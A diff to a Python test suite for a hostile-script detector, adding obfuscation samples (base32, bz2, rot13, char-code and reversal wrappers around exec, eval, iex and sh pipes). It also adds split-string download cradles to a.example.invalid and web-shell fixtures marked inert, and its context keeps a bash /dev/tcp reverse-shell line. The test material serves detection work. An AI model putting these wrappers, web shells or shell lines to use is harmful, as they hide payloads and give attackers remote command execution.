@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import base64
+import binascii
+import bz2
 import codecs
 import gzip
+import lzma
 import random
 import sysconfig
 import zlib
@@ -51,6 +54,38 @@ TRICKS = {
     "reversed": ("vbscript", f'Execute StrReverse("{PLAIN[::-1]}")'),
     "percent": ("jscript", "unescape('" + "".join(f"%{ord(c):02x}" for c in PLAIN) + "')"),
     "octal": ("shell", "printf '" + "".join(f"\\{ord(c):03o}" for c in PLAIN) + "'"),
+    "base32": ("python", f"exec(base64.b32decode('{base64.b32encode(PLAIN.encode()).decode()}'))"),
+    "base85": ("python", f"exec(base64.b85decode({base64.b85encode(PLAIN.encode())!r}))"),
+    "uuencode": (
+        "php",
+        "<?php eval(convert_uudecode('\n"
+        + "".join(binascii.b2a_uu(PLAIN.encode()[n : n + 45]).decode() for n in range(0, 120, 45))
+        + "`\n'));",
+    ),
+    "reversed base64": ("powershell", f"$r='{b64(PLAIN.encode())[::-1]}'.ToCharArray();[array]::Reverse($r)"),
+    "reversed base64 of zlib": ("python", f"_ = lambda __: d(__[::-1]); _({b64(zlib.compress(PLAIN.encode())).encode()[::-1]!r})"),
+    "bzip2": ("python", f"exec(bz2.decompress(base64.b64decode('{b64(bz2.compress(PLAIN.encode()))}')))"),
+    "xz": ("python", f"exec(lzma.decompress(base64.b64decode('{b64(lzma.compress(PLAIN.encode()))}')))"),
+    "zlib in a literal": ("python", f"exec(zlib.decompress({zlib.compress(PLAIN.encode())!r}))"),
+    "rot13": ("python", f"exec(codecs.decode({codecs.encode(PLAIN, 'rot13')!r}, 'rot13'))"),
+    "rot13 of tr": ("shell", f"echo \"{codecs.encode(PLAIN, 'rot13')}\" | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"),
+    "binary codes": ("powershell", "'" + " ".join(f"{ord(c):08b}" for c in PLAIN) + "' -split ' '|%{[char][Convert]::ToInt32($_,2)}"),
+    "octal codes": ("powershell", "'" + ",".join(f"{ord(c):o}" for c in PLAIN) + "'.Split(',')|%{[char]([Convert]::ToInt16($_,8))}"),
+    "codes plus eleven": (
+        "vbscript",
+        "a = Array(" + ",".join(str(ord(c) + 11) for c in PLAIN) + ")\r\nFor Each i In a: s = s & Chr(i - 11)",
+    ),
+    "codes times three": ("jscript", "[" + ", ".join(str(ord(c) * 3) for c in PLAIN) + "].map(c => String.fromCharCode(c / 3))"),
+    "codes in quotes": ("powershell", "'" + "','".join(str(ord(c)) for c in PLAIN) + "'|%{$s+=[char]([int]$_)}"),
+    "codes between stars": ("vbscript", 'd="' + "*".join(str(ord(c)) for c in PLAIN) + '"'),
+    "written from the end": ("powershell", f'$a="{PLAIN[::-1]}"; -join $a[-1..-($a.Length)] | iex'),
+    "rev": ("shell", f'rev <<< "{PLAIN[::-1]}" | bash'),
+    "numbered words": (
+        "jscript",
+        "}('0-1 (2-3 4.5).6(\\'7://8.9.a/b.c\\') # d',14,14,"
+        "'Invoke|Expression|New|Object|Net|WebClient|DownloadString|http|stage|example|invalid|a|txt|inert'.split('|'),0,{}))",
+    ),
+    "behind the script": ("shell", "#!/bin/sh\ntail -n+3 $0 | gzip -d | sh; exit\n" + gzip.compress(PLAIN.encode()).decode("latin-1")),
     "backslash x": ("python", "exec('" + "".join(f"\\x{ord(c):02x}" for c in PLAIN) + "')"),
     "php chain": (
         "php",
@@ -91,6 +126,26 @@ REWRITTEN = [
     ("powershell", "$a='Downl';$b='oadString';(New-Object Net.WebClient).($a+$b).Invoke('x')", ".DownloadString"),
     ("batch", "set q=abcdefghijklmnopqrstuvwxyz\n%q:~2,1%%q:~20,1%%q:~17,1%%q:~11,1% http://a.example.invalid", "curl http://a"),
     ("python", "x = 'dilavni.elpmaxe.a//:ptth'[::-1]", "http://a.example.invalid"),
+    ("powershell", "$x=''\n$x+='http'\n$x += '://a.exam'\n$x+='ple.invalid/'", "http://a.example.invalid/"),
+    (
+        "vbscript",
+        'x = ""\r\nx = x & "http:"\r\nx = x & Chr(141/3) & Chr(141/3) & Chr(97*1) & ".exa"\r\nx = x & "mple.invalid/"',
+        "http://a.example.invalid/",
+    ),
+    ("php", "$u = 'ht'; $u .= 'tp://a'; $u .= '.example.invalid';", "http://a.example.invalid"),
+    ("powershell", "$u = ('http', '://a.exam', 'ple.invalid') -join ''", "http://a.example.invalid"),
+    ("jscript", "u = ['http', '//a.example.invalid/'].join(':')", "http://a.example.invalid/"),
+    ("python", "u = ''.join(['http:', '//a.exam', 'ple.invalid/'])", "http://a.example.invalid/"),
+    ("php", "$k = array('http:', '//a.exam', 'ple.invalid/'); $u = implode('', $k);", "http://a.example.invalid/"),
+    ("vbscript", 'u = Join(Array("http:", "//a.exam", "ple.invalid/"), "")', "http://a.example.invalid/"),
+    ("jscript", "var p=['ht','tp:/','/a.example','.invalid/'];x(p[0]+p[0x1]+p[2]+p[3])", "http://a.example.invalid/"),
+    ("shell", "a=ht;b='tp://a';c=.exa;d=mple.invalid\nwget -qO- $a$b${c}$d/x", "http://a.example.invalid/x"),
+    ("shell", "cu''rl${IFS}ht\"tp\":/\"/\"a.exa'mple'.in\\valid/x", "curl http://a.example.invalid/x"),
+    ("powershell", "$a='http';$b='://a.';$c='example.invalid';iwr \"$a$b$c/\"", "http://a.example.invalid/"),
+    ("batch", "setlocal enabledelayedexpansion\nset x=cu#rl ht#tp://a.ex#ample.invalid\n!x:#=!", "curl http://a.example.invalid"),
+    ("powershell", "'h~~p://a.example.invalid/?q=''x' -creplace '~~','tt'", "http://a.example.invalid/"),
+    ("jscript", "unescape('" + "".join(f"%u{ord(c):04x}" for c in "http://a.example.invalid") + "')", "http://a.example.invalid"),
+    ("lua", "load('" + "".join(f"\\{ord(c)}" for c in "http://a.example.invalid") + "')()", "http://a.example.invalid"),
 ]
 
 
@@ -108,6 +163,15 @@ PIECES = [
     *("echo 'olleh'|rev", "'olleh'[-1..-5] -join ''", "set a=b\n%a%", "'olleh'.split('').reverse().join('')", "'a-b'.split('-').join('')"),
     *("'axb'.replace(/x/g,'')", "replace('axb','x','')", "a='b';$a", "echo aGVsbG8gd29ybGQK", "powershell /e aGVsbG8gd29ybGQK"),
     *("atob('aGVsbG8gd29ybGQK')", "String.fromCharCode(104,101,108)"),
+    *("$x='a'\n$x+='b'\n$x+='c'\n", "x = x & 'ab'\nx = x & 'cd'\n", "a=ht;b=tp;c=s\n$a$b$c", "['a', 'b'].join('')", "('a','b') -join ''"),
+    *("var p=['a', 'b'];p[0]+p[1]", "k=('a','b');''.join(k)", "x='\\x9c\\x00ab\\x01\\x02cdefghijklmnopqrstuvwxyz'", 'ht"tp"://a${IFS}b'),
+    *(
+        "return p                }('0 1',2,2,'ab|cd'.split('|'))",
+        "begin 644 x\n#86)C\n`\n",
+        "b32decode('NBSWY3DPEB3W64TMMQ')",
+        "a\n\x1f\x8b\x08abc",
+    ),
+    *("'llehsrewop c- xei'", "tr 'a-z' 'n-za-m' 'uggc://n.rknzcyr/cnguf'"),
 ]
 OTHERS = (*BLANKS, "'", '"', "\u0661", "\u017f", "K", "é", "_", "+")
 
@@ -170,6 +234,15 @@ def test_a_bomb_is_bounded_and_said(monkeypatch):
         *("'a'+" * 50_000, "\\'" * 100_000, "#@~^" * 50_000, "a.b." * 50_000, "^a" * 100_000, "eval(" * 40_000, "1," * 100_000),
         *("\\\\a" * 60_000, "://" * 60_000, "base64_decode('" * 20_000, "set a=b\n%a%" * 20_000, "$a='x';" * 30_000, "A" * 400_000),
         *("'x'.replace('x'," * 10_000, "aa-" * 60_000),
+        *("$x+='a';" * 30_000, "'a'," * 60_000, "['a'," * 40_000, "$a$b$c " * 30_000, "a=b;" * 50_000, "1 " * 100_000, "\\x41" * 60_000),
+        *(
+            "''" * 100_000,
+            "base85 b85decode('" * 20_000,
+            "rot13 'aaaaaaaaaaaaaaaa" * 10_000,
+            "'|'.split('|')" * 15_000,
+            "//:ptth'" * 30_000,
+        ),
+        *("virtualalloc " * 20_000, "$a=$_GET[1];" * 20_000, "curl -o abcd\n" * 20_000, "request.getparameter(" * 15_000),
     ],
 )
 def test_hostile_text_costs_linear_time(text):
@@ -230,6 +303,9 @@ HIGH = {
     "php call": "<?php $_GET['a']($_POST['b']); // inert",
     "jsp": '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); // inert %>',
     "aspx": '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");/* inert */%>',
+    "php kept": "<?php $c = $_GET['c']; system($c); // inert",
+    "php kept call": "<?php $f = @$_POST['f']; $x = 1; $f($_POST['x']); // inert",
+    "jsp kept": '<%@ page import="java.io.*" %><% String c = request.getParameter("c"); Runtime.getRuntime().exec(c); // inert %>',
     "shell": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 # inert",
     "powershell": f"powershell -w hidden -enc {b64(PLAIN.encode('utf-16-le'))}",
 }
@@ -247,6 +323,8 @@ def test_what_no_honest_script_does_is_high(kind):
         ("php", "<?php $data = json_decode(base64_decode($_POST['data'])); exec('ls ' . escapeshellarg($dir));"),
         ("shell", "#!/bin/sh\ncurl -fsSL https://vendor.example/key.asc -o /etc/apt/keyrings/v.asc\n"),
         ("python", "import base64\nprint(base64.b64decode('aGVsbG8gd29ybGQgdGhpcyBpcyBmaW5l').decode())"),
+        ("php", "<?php $mode = $_GET['mode']; $other = 'date'; system($other); $mode_names($x);"),
+        ("shell", "#!/bin/sh\nD=/usr/share/x; B=$D/bin; curl -fsSL https://vendor.example/a.tar.gz -o a.tar.gz; tar xf a.tar.gz"),
         ("vbscript", 'Set s = CreateObject("WScript.Shell")\ns.Run "notepad.exe"'),
     ],
 )
@@ -258,7 +336,9 @@ def test_traits_and_languages_are_sound():
     spoken = {language for trait in traits.traits() for language in trait.languages}
     assert spoken <= {*languages(), "command", "vba"}
     assert len({trait.group for trait in traits.traits()}) >= 5
-    assert not [trait.id for trait in traits.traits() if pattern_error(trait.pattern)], "a run compiles a pattern when a text has its words"
+    for trait in traits.traits():
+        patterns = [trait.pattern, *(clue for clues, _ in trait.near for clue in clues)]
+        assert not [pattern for pattern in patterns if pattern_error(pattern)], "a run compiles a pattern when a text has its words"
 
 
 @pytest.mark.parametrize(
